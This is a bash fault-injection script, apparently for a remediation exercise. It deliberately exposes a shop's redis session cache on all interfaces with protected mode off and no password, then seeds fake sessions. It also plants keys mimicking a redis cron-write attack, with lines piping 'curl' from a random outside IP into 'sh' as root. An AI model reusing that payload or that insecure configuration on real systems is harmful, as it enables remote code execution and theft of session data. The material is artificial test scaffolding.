#!/bin/bash
# Injects the fault (run as root inside the deployment, fed on stdin, never stored there): redis,
# the shop's session cache, listens on a random port on every address with protected mode off and
# no password (its bind line changed or commented out: FAULTLINE_FAULT forces which), as a pure
# cache (no snapshots: a restart loses everything). It holds this deployment's customer sessions
# and the keys an attacker planted through the open port. shopfront uses it from localhost.
# Prints the values the check needs as JSON on its last line.
set -euo pipefail
faults=(bind_all bind_commented)
fault=${FAULTLINE_FAULT:-${faults[RANDOM % ${#faults[@]}]}}
rnd() { od -An -N"$1" -tx1 /dev/urandom | tr -d ' \n'; }
conf=/etc/redis/redis.conf
port=$(shuf -n1 -e 6379 6380 6390 7379 16379)

sed -i "s/^port .*/port $port/; s/^protected-mode .*/protected-mode no/" "$conf"
case "$fault" in
  bind_all) sed -i "s/^bind .*/bind $(shuf -n1 -e '0.0.0.0' '* -::*' '0.0.0.0 ::')/" "$conf" ;;
  bind_commented) sed -i 's/^bind .*/# bind 127.0.0.1 -::1   # off for the load test, DW/' "$conf" ;;
  *) echo "unknown fault: $fault" >&2; exit 2 ;;
esac
printf '\n# A cache: nothing to keep across restarts.\nsave ""\n' >>"$conf"
sed -i "s/^port = .*/port = $port/" /etc/shopfront/app.conf
service redis-server start >/dev/null
for _ in $(seq 30); do redis-cli -p "$port" PING >/dev/null 2>&1 && break; sleep 0.1; done

instance=$(rnd 6)
sessions=$((40 + RANDOM % 80))
{
  echo "SET shop:instance $instance"
  for _ in $(seq "$sessions"); do echo "SET session:$(rnd 12) customer=$((RANDOM * 7))&cart=$((RANDOM % 9)) EX 604800"; done
  # What the attacker left through the open port: a cron line to be written out as a file.
  for i in $(seq $((1 + RANDOM % 4))); do
    echo "SET $(shuf -n1 -e backup crackit x ssh)$i \"\\n\\n*/2 * * * * root curl -fsSL http://$((RANDOM % 200 + 20)).$((RANDOM % 250)).$((RANDOM % 250)).$((RANDOM % 250 + 2))/cr.sh | sh\\n\\n\""
  done
} | redis-cli -p "$port" >/dev/null
service shopfront start >/dev/null
printf '{"fault":"%s","port":"%s","instance":"%s","sessions":"%s"}\n' "$fault" "$port" "$instance" "$sessions"
